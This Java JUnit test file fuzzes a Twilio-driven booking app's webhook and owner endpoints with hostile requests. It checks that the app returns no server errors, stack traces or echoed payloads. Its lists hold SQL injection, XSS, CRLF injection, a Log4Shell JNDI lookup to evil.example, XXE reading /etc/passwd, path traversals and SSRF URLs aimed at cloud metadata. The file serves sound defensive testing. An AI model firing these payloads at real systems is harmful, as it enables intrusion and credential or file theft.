package bella.bootstrap;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;
import org.w3c.dom.Document;
import org.xml.sax.InputSource;

import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;
import javax.xml.parsers.DocumentBuilderFactory;
import java.io.StringReader;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.stream.Collectors;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Every endpoint against every attack, generated from two lists: bad and missing signatures and logins, missing and
 * repeated fields, huge bodies, wrong content types and methods, injection strings, path traversal in ids, replays
 * and forged recording URLs. Each answer must be a 4xx, or valid TwiML (or the empty 2xx of a status report), and
 * never a 5xx, a stack trace or the attack's own text given back.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HostileRequestsTest {

    private static final String API_KEY = "k3y-0f-the-0wner-7f3a9c";
    private static final String CALL = "CA00000000000000000000000000000e77";
    /** The call the owner's pages are asked about: no hostile webhook reaches it, so what they show is its own. */
    private static final String SHOWN = "CA00000000000000000000000000000e79";
    private static final HttpClient HTTP = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(30)).build();
    private static final String LONG = "A".repeat(100_000);
    /** What an attacker puts in a field, a query or an id. */
    private static final List<String> PAYLOADS = List.of(
            "' OR '1'='1'; DROP TABLE domain_event_entry; --",
            "<script>alert('bella')</script>",
            "x\r\nSet-Cookie: owned=1\r\n\r\n<html>",
            "%s%s%s%n%x%n%p",
            "\u202Eevil\u0000\uFFFF\uD83D\uDE00\uDBFF",
            "${jndi:ldap://evil.example/a}",
            "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
            "-99999999999999999999999",
            LONG);
    private static final List<String> TRAVERSALS = List.of("../../../../etc/passwd", "..%2F..%2F..%2Fetc%2Fpasswd",
            "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..;/..;/actuator/env", "....//....//etc/passwd", "%00",
            "CA0000000000000000000000000000ffff%2F..%2F..");

    /** Static, so it is made before the Bella that {@link #start} starts for the whole class. */
    @TempDir
    static Path data;
    private RunningBella bella;

    private enum Kind { WEBHOOK, OWNER, OPEN }

    private record Endpoint(String method, String path, Kind kind) {
        /** The path with its id, if it has one, replaced. */
        String with(String id) {
            return path.replace("{id}", id);
        }
    }

    /** One hostile request, and the text it must not see given back. */
    private record Hostile(String name, String method, String path, String contentType, String body,
                           Map<String, String> headers, String payload) {
        Hostile withHeaders(Map<String, String> more) {
            Map<String, String> all = new LinkedHashMap<>(headers);
            all.putAll(more);
            return new Hostile(name, method, path, contentType, body, all, payload);
        }
    }

    private static final List<Endpoint> ENDPOINTS = List.of(
            new Endpoint("POST", "/twilio/voice", Kind.WEBHOOK),
            new Endpoint("POST", "/twilio/gather?turn=1", Kind.WEBHOOK),
            new Endpoint("POST", "/twilio/status", Kind.WEBHOOK),
            new Endpoint("POST", "/twilio/sms-status", Kind.WEBHOOK),
            new Endpoint("POST", "/twilio/dial?turn=1", Kind.WEBHOOK),
            new Endpoint("POST", "/twilio/recording", Kind.WEBHOOK),
            new Endpoint("POST", "/twilio/recording-status", Kind.WEBHOOK),
            new Endpoint("POST", "/twilio/answer-recording?turn=1", Kind.WEBHOOK),
            new Endpoint("GET", "/api/recordings/pending", Kind.OWNER),
            new Endpoint("GET", "/api/messages", Kind.OWNER),
            new Endpoint("POST", "/api/customers/{id}/forget", Kind.OWNER),
            new Endpoint("GET", "/api/appointments", Kind.OWNER),
            new Endpoint("GET", "/api/calls", Kind.OWNER),
            new Endpoint("GET", "/api/calls/{id}/events", Kind.OWNER),
            new Endpoint("POST", "/api/calls/{id}/rerun", Kind.OWNER),
            new Endpoint("GET", "/api/report", Kind.OWNER),
            new Endpoint("POST", "/api/projections/{id}/rebuild", Kind.OWNER),
            new Endpoint("GET", "/dashboard", Kind.OWNER),
            new Endpoint("GET", "/dashboard/calls/{id}", Kind.OWNER),
            new Endpoint("GET", "/actuator/prometheus", Kind.OWNER),
            new Endpoint("GET", "/actuator/health/readiness", Kind.OPEN),
            new Endpoint("GET", "/healthz", Kind.OPEN));

    @BeforeAll
    void start() {
        // every webhook reaches its handler: the limits have their own test
        // and messages are taken, so that recordings' URLs meet the check that refuses forged ones: nothing listens
        // at the discard port, so a URL that passed would fail to be fetched, not reach another host
        bella = RunningBella.start(data.resolve("bella.db"), Map.of("ADMIN_USER", "owner",
                "ADMIN_PASS", "s3cret-pass", "API_KEY", API_KEY, "WEBHOOK_LIMIT_PER_CALLER", "0",
                "CALL_RECORDING_ENABLED", "true", "TWILIO_ACCOUNT_SID", "AC0123456789abcdef0123456789abcdef",
                "TWILIO_API_BASE_URL", "http://127.0.0.1:9", "WHISPER_BASE_URL", "http://127.0.0.1:9"));
        bella.caller(CALL, "+14165550190").dial();
        bella.caller(SHOWN, "+14165550191").dial();
    }

    @AfterAll
    void stop() {
        bella.close();
    }

    @TestFactory
    Stream<DynamicTest> everyEndpointAgainstEveryAttack() {
        List<Hostile> cases = ENDPOINTS.stream().flatMap(this::attacks).toList();
        assertThat(cases).hasSizeGreaterThanOrEqualTo(200);
        return cases.stream().map(hostile -> DynamicTest.dynamicTest(hostile.name(), () -> check(hostile)));
    }

    private Stream<Hostile> attacks(Endpoint endpoint) {
        List<Hostile> all = new ArrayList<>();
        String path = endpoint.with(endpoint.kind() == Kind.OWNER ? SHOWN : CALL);
        Map<String, List<String>> usual = usualForm();
        all.add(request(endpoint, "unauthenticated", endpoint.method(), path, usual, Map.of(), null));
        all.add(request(endpoint, "wrong signature or key", endpoint.method(), path, usual,
                Map.of("X-Twilio-Signature", "bm90IGEgc2lnbmF0dXJl", "X-API-Key", API_KEY + "0",
                        "Authorization", OwnerAccessTest.basic("owner", "wrong")), null));
        all.add(signed(endpoint, "missing fields", endpoint.method(), path, Map.of(), null));
        Map<String, List<String>> repeated = new LinkedHashMap<>(usual);
        repeated.put("CallSid", List.of(CALL, "CA00000000000000000000000000000e78"));
        repeated.put("turn", List.of("1", "2"));
        all.add(signed(endpoint, "repeated fields", endpoint.method(), path, repeated, null));
        Map<String, List<String>> huge = new LinkedHashMap<>(usual);
        huge.put("SpeechResult", List.of("B".repeat(1_500_000)));
        all.add(signed(endpoint, "huge body", endpoint.method(), path, huge, "B".repeat(200)));
        for (String type : List.of("application/json", "text/xml", "multipart/form-data; boundary=x")) {
            all.add(new Hostile(endpoint.method() + " " + path + ": content type " + type, endpoint.method(),
                    path, type, "{\"CallSid\":\"" + CALL + "\"}", withSignature(path, Map.of()), null));
        }
        for (String method : List.of("GET", "PUT", "DELETE", "PATCH", "POST")) {
            if (!method.equals(endpoint.method())) {
                all.add(signed(endpoint, "method " + method, method, path, usual, null));
            }
        }
        for (String payload : PAYLOADS) {
            String shown = payload.length() > 30 ? payload.substring(0, 30) + "…" : payload;
            Map<String, List<String>> injected = new LinkedHashMap<>();
            for (String field : List.of("From", "To", "SpeechResult", "Digits", "Confidence", "CallStatus",
                    "CallDuration", "MessageSid", "MessageStatus", "ErrorCode")) {
                injected.put(field, List.of(payload));
            }
            injected.put("CallSid", List.of(CALL));
            String query = (path.contains("?") ? "&" : "?") + "from=" + enc(payload) + "&to=" + enc(payload);
            all.add(signed(endpoint, "injection in fields " + printable(shown), endpoint.method(), path + query,
                    injected, payload));
            Map<String, List<String>> asSid = new LinkedHashMap<>(usual);
            asSid.put("CallSid", List.of(payload));
            all.add(signed(endpoint, "injection as CallSid " + printable(shown), endpoint.method(),
                    endpoint.path().contains("{id}") ? endpoint.with(enc(payload)) : path, asSid, payload));
        }
        if (endpoint.path().contains("{id}")) {
            for (String traversal : TRAVERSALS) {
                all.add(signed(endpoint, "traversal " + traversal, endpoint.method(), endpoint.with(traversal),
                        usual, "passwd"));
            }
        }
        for (String recording : List.of("http://169.254.169.254/latest/meta-data/iam/", "file:///etc/passwd",
                "https://api.twilio.com.evil.example/2010-04-01/Recordings/RE1", "javascript:alert(1)")) {
            Map<String, List<String>> forged = new LinkedHashMap<>(usual);
            forged.put("RecordingUrl", List.of(recording));
            forged.put("RecordingSid", List.of("RE" + "0".repeat(32)));
            forged.put("RecordingDuration", List.of("-5"));
            all.add(signed(endpoint, "forged RecordingUrl " + recording, endpoint.method(), path, forged, recording));
        }
        // a request Twilio really signed, for another webhook, replayed here; and the same replayed twice
        Map<String, String> signedElsewhere = withSignature("/twilio/voice?turn=9", usual);
        all.add(request(endpoint, "replayed from another URL", endpoint.method(), path, usual, signedElsewhere, null));
        all.add(signed(endpoint, "replayed as it was", endpoint.method(), path, usual, null));
        all.add(signed(endpoint, "turn out of range", endpoint.method(),
                path.replace("turn=1", "turn=-2147483648"), usual, null));
        all.add(signed(endpoint, "turn not a number", endpoint.method(), path.replace("turn=1", "turn=one"), usual,
                null));
        all.add(signed(endpoint, "proxy headers forged", endpoint.method(), path, usual, null)
                .withHeaders(Map.of("X-Forwarded-Host", "evil.example", "X-Forwarded-Proto", "gopher",
                        "X-Forwarded-For", "10.0.0.1, 203.0.113.66")));
        return all.stream();
    }

    private void check(Hostile hostile) throws Exception {
        HttpResponse<String> answer = send(hostile);
        String body = answer.body() == null ? "" : answer.body();
        assertThat(answer.statusCode()).as(body).isLessThan(500);
        assertThat(body).as("a stack trace").doesNotContainPattern("(?m)^\\s*at [\\w.$]+\\(")
                .doesNotContainPattern("\\b(java|org|com|jakarta|bella)\\.[\\w.]+(Exception|Error): ")
                .doesNotContain("\"trace\":");
        if (hostile.payload() != null) {
            assertThat(body).as("the attack's text given back")
                    .doesNotContain(hostile.payload().length() > 200 ? hostile.payload().substring(0, 200)
                            : hostile.payload());
        }
        assertThat(answer.headers().allValues("Set-Cookie")).noneMatch(cookie -> cookie.contains("owned"));
        if (answer.statusCode() / 100 == 2 && hostile.path().startsWith("/twilio/") && answer.statusCode() != 204) {
            assertThat(answer.headers().firstValue("Content-Type")).hasValueSatisfying(type ->
                    assertThat(type).startsWith("application/xml"));
            assertThat(twiml(body).getDocumentElement().getTagName()).isEqualTo("Response");
        }
    }

    private Hostile request(Endpoint endpoint, String attack, String method, String path,
                            Map<String, List<String>> form, Map<String, String> headers, String payload) {
        return new Hostile(method + " " + path + ": " + attack, method, path, "application/x-www-form-urlencoded",
                form(form), headers, payload);
    }

    /** Signed as Twilio signs, with the owner's key too: the request passes the door and meets the handler. */
    private Hostile signed(Endpoint endpoint, String attack, String method, String path,
                           Map<String, List<String>> form, String payload) {
        Map<String, String> headers = new LinkedHashMap<>(withSignature(path, form));
        headers.put("X-API-Key", API_KEY);
        return request(endpoint, attack, method, path, form, headers, payload);
    }

    private Map<String, String> withSignature(String path, Map<String, List<String>> form) {
        StringBuilder signed = new StringBuilder(bella.base() + path);
        new TreeMap<>(form).forEach((name, values) -> values.stream().sorted()
                .forEach(value -> signed.append(name).append(value)));
        try {
            Mac mac = Mac.getInstance("HmacSHA1");
            mac.init(new SecretKeySpec(RunningBella.AUTH_TOKEN.getBytes(StandardCharsets.UTF_8), "HmacSHA1"));
            return Map.of("X-Twilio-Signature", Base64.getEncoder().encodeToString(
                    mac.doFinal(signed.toString().getBytes(StandardCharsets.UTF_8))));
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    private static Map<String, List<String>> usualForm() {
        Map<String, List<String>> form = new LinkedHashMap<>();
        form.put("CallSid", List.of(CALL));
        form.put("AccountSid", List.of("AC0123456789abcdef0123456789abcdef"));
        form.put("From", List.of("+14165550190"));
        form.put("To", List.of("+16475550000"));
        form.put("SpeechResult", List.of("I'd like to book"));
        form.put("CallStatus", List.of("in-progress"));
        return form;
    }

    private static String form(Map<String, List<String>> form) {
        return form.entrySet().stream().flatMap(field -> field.getValue().stream()
                .map(value -> enc(field.getKey()) + "=" + enc(value))).collect(Collectors.joining("&"));
    }

    private HttpResponse<String> send(Hostile hostile) throws Exception {
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create(bella.base() + hostile.path()))
                .timeout(Duration.ofSeconds(60));
        hostile.headers().forEach(request::header);
        HttpRequest.BodyPublisher body = HttpRequest.BodyPublishers.ofString(hostile.body());
        if (hostile.method().equals("GET")) {
            request.GET();
        } else {
            request.header("Content-Type", hostile.contentType()).method(hostile.method(), body);
        }
        return HTTP.send(request.build(), HttpResponse.BodyHandlers.ofString());
    }

    private static Document twiml(String body) throws Exception {
        return DocumentBuilderFactory.newInstance().newDocumentBuilder().parse(new InputSource(new StringReader(body)));
    }

    private static String enc(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8);
    }

    private static String printable(String text) {
        return text.codePoints().mapToObj(c -> Character.isISOControl(c) || c > 0x7e ? "?" : Character.toString(c))
                .collect(Collectors.joining());
    }
}
